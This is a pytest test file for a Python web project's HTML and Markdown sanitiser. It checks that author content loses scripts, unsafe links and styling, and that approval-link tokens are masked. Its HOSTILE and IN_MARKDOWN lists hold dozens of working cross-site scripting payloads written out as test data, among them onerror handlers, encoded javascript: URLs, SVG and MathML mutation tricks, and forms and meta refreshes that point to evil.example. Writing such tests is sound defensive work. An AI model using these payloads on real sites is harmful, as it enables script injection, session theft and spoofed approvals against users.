"""Authors' Markdown and HTML within our own page: harmless, without looks, and still readable."""

import re
from html.parser import HTMLParser

import pytest

from jupyter_flows.web.shown.clean import markdown_html, plain_html

TOKEN = "A" * 80 + "." + "B" * 43
REL = "noopener noreferrer nofollow"
PIXEL = "data:image/png;base64,iVBORw0KGgo="

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/1x.png 1x">',
    f'<img src="{PIXEL}" onload=alert(1) style="position:fixed;inset:0">',
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/jupyter-flows/cancel">x</a>',
    '<a href="#answer">x</a>',
    '<a href="https://example.org/" onclick="alert(1)" target="_top" download ping="//evil">x</a>',
    "<svg onload=alert(1)><a href='https://x'>x</a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<math href="javascript:alert(1)">x</math>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
    '<form action="https://evil.example/"><button name="decision" value="approve">Go</button>',
    '<input type="hidden" name="digest" value="sha256:00">',
    '<select name="decision"><option value="approve"></select>',
    '<button form="answer" formaction="//evil.example" name="decision" value="reject">x</button>',
    '<p id="answer">x</p><p id="mistakes">y</p>',
    '<a name="location" href="https://x.example">x</a><img name="cookie">',
    '<div class="state yes" role="status">Approved.</div>',
    '<div style="position:fixed;inset:0;background:#fff">Approved.</div>',
    "<style>body{display:none}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<label for="message">Your password</label>',
    '<p tabindex="1" accesskey="a" autofocus contenteditable hidden dir="rtl" title="x">x</p>',
    '<p aria-hidden="true" role="alert" aria-label="Approve" data-x="y">x</p>',
    '<video src="//evil.example/v.mp4" autoplay></video><audio src="//evil.example">',
    '<td style="text-align:right;background:url(//evil.example)">x</td>',
    '<table style="width:9999px" background="//evil.example/x.png"><tr><td bgcolor="red">x',
    "<details open ontoggle=alert(1)>x</details><dialog open>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <script> --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p/onclick=alert(1)>x",
    "</section></main><h1>Approved</h1>",
    "<slot name=x></slot><custom-element onclick=x>x</custom-element>",
]

IN_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.org/ "x\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> |\n|---|\n| [x](data:text/html,x) |",
    "~~~ onclick=alert(1)\nx\n~~~",
]

TAGS = set(
    re.findall(
        r"\w+",
        "a abbr b blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption"
        " figure h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong"
        " sub sup table tbody td tfoot th thead tr tt u ul var wbr",
    )
)
ATTRIBUTES = {"href", "rel", "src", "alt", "align", "colspan", "rowspan", "scope", "start"}


class Read(HTMLParser):
    """All tags and attributes in some HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes

    def handle_comment(self, text):
        raise AssertionError(text)

    handle_decl = handle_pi = handle_comment


def check(html):
    read = Read(html)
    assert read.tags <= TAGS
    for name, value in read.attributes:
        if (name, value) == ("class", "no-picture"):
            continue
        assert name in ATTRIBUTES
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:"))
        if name == "src":
            assert value.startswith("data:image/")


@pytest.mark.parametrize("vector", HOSTILE)
def test_nothing_hostile_is_left_of_html(vector):
    check(plain_html(vector))
    check(plain_html(f"<table><tr><td>{vector}</td></tr></table>"))


@pytest.mark.parametrize("vector", [*HOSTILE, *IN_MARKDOWN])
def test_nothing_hostile_is_left_of_markdown(vector):
    check(markdown_html(vector))
    check(markdown_html(f"- a *{vector}* b\n\n> {vector}"))


@pytest.mark.parametrize("vector", [*HOSTILE, *IN_MARKDOWN])
def test_cleaning_again_finds_nothing_more(vector):
    """What a browser reads is what the cleaning has read."""
    once = str(plain_html(vector))
    twice = str(plain_html(once))
    changing = re.compile(r"h[1-6](?=>)|<span[^>]*>|</span>")
    assert changing.sub("", twice) == changing.sub("", once)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# A\n\n## B", "<h3>A</h3>\n<h4>B</h4>\n"),
        ("###### F", "<h6>F</h6>\n"),
        ("<h1>raw</h1>", "<h3>raw</h3>"),
        ("a ~~b~~ **c**", "<p>a <s>b</s> <strong>c</strong></p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        (f"![dot]({PIXEL})", f'<p><img src="{PIXEL}" alt="dot"></p>\n'),
        ("![a <b>](https://x/y.png)", '<p><span class="no-picture">[a &lt;b&gt;]</span></p>\n'),
        ('`style="text-align:right"`', '<p><code>style="text-align:right"</code></p>\n'),
        (
            "[x](https://example.org/?a=1&b=2)",
            '<p><a href="https://example.org/?a=1&amp;b=2" rel="REL">x</a></p>\n'.replace(
                "REL", REL
            ),
        ),
    ],
)
def test_what_markdown_means_is_kept(text, html):
    assert str(markdown_html(text)) == html


def test_a_columns_alignment_stays_without_a_style():
    html = str(markdown_html("| a | b |\n|:-:|--:|\n| 1 | 2 |"))
    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_a_plain_table_keeps_its_spans_and_loses_its_looks():
    html = '<table class="x" border="1"><tr style="text-align: right;"><th colspan="2">a</th></tr>'
    row = '<tr align="right"><th colspan="2">a</th></tr>'
    assert str(plain_html(html)) == f"<table><tbody>{row}</tbody></table>"


@pytest.mark.parametrize(
    "text",
    [
        f"see http://h/approve?flow_token={TOKEN}",
        f"[vote](http://h/approve?flow_token={TOKEN})",
        f"<http://h/approve?flow_token={TOKEN}>",
        f"flow&#95;token&#61;{TOKEN}",
        f"flow\\_token={TOKEN}",
        f"`flow_token={TOKEN}`",
        f'<a href="http://h/resume?flow&#x5f;token={TOKEN}">x</a>',
        f"{TOKEN[:100]}&#66;{TOKEN[101:]}",
        f"{TOKEN[:80]}&period;{TOKEN[81:]}",
    ],
)
def test_tokens_of_links_are_hidden_however_they_are_written(text):
    for html in (markdown_html(text), plain_html(text)):
        assert "B" * 12 not in html
